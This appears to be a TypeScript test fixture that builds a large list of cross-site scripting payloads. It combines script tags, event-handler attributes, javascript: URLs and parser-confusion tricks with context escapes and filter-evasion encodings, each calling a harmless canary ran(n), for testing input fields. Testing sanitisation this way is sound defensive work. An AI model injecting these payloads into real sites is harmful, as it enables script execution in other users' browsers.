/**
 * Texts that would run a script if a page ever took them for markup: ways out of a context, times what they do there,
 * times how they are written. Each calls `ran(n)` with a number of its own.
 */

/** Where a text could end up, and how one gets out of it. */
const WAYS_OUT = ['', '">', "'>", '</textarea>', '</title>', '</script>', '--><!-->', ']]>', '</style>', '{{', '${'];

/** What runs, as short as it gets: names have 80 characters. */
const PAYLOADS: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate onbegin=${call}>`,
  (call) => `<iframe srcdoc='<script>parent.${call}</script>'>`,
  (call) => `<iframe src=javascript:parent.${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `<form action=javascript:${call}><button>x`,
  (call) => `<math><mtext><style><img src=x onerror=${call}>`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<body onload=${call}>`,
  (call) => `" onmouseover=${call} x="`,
  (call) => `' autofocus onfocus=${call} x='`,
  (call) => `javascript:${call}`,
  (call) => `<base href=//x.invalid><script src=${call}></script>`,
  (call) => `<link rel=stylesheet href=//x.invalid/${call}>`,
  (call) => `<meta http-equiv=refresh content=0;url=javascript:${call}>`,
];

/** How else the same may be written, in the hope that something undoes it. */
const WRITINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/</g, '&#60;').replace(/>/g, '&#x3e;'),
  (text) => text.replace(/[<>"' ]/g, encodeURIComponent),
  (text) => text.replace(/</g, '\\u003c').replace(/>/g, '\\x3e'),
  (text) => text.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
  (text) => text.replace(/<(\w)(\w+)/g, '<$1\u200b$2'),
  (text) => text.replace(/ on/g, '\ton').replace(/=/g, ' = '),
  (text) => text.replace(/ /g, '/'),
];

export const INJECTIONS: string[] = [...every()];

/** Every payload in every writing, and every way out with every payload. */
function* every(): Generator<string> {
  let number = 0;
  for (const payload of PAYLOADS) {
    for (const write of WRITINGS) yield write(payload(`ran(${number++})`));
    for (const way of WAYS_OUT.slice(1)) yield way + payload(`ran(${number++})`);
  }
}

/** Those that fit, without characters that a name may not have. */
export function within(characters: number): string[] {
  return INJECTIONS.filter((text) => [...text].length <= characters && !/[\t\u200b]/.test(text));
}

/** The texts in as few pieces as the limit allows, one text a line. */
export function inPieces(texts: string[], characters: number): string[] {
  const pieces: string[] = [];
  for (const text of texts) {
    const last = pieces.at(-1);
    if (last !== undefined && last.length + text.length + 1 <= characters) pieces[pieces.length - 1] = `${last}\n${text}`;
    else pieces.push(text);
  }
  return pieces;
}
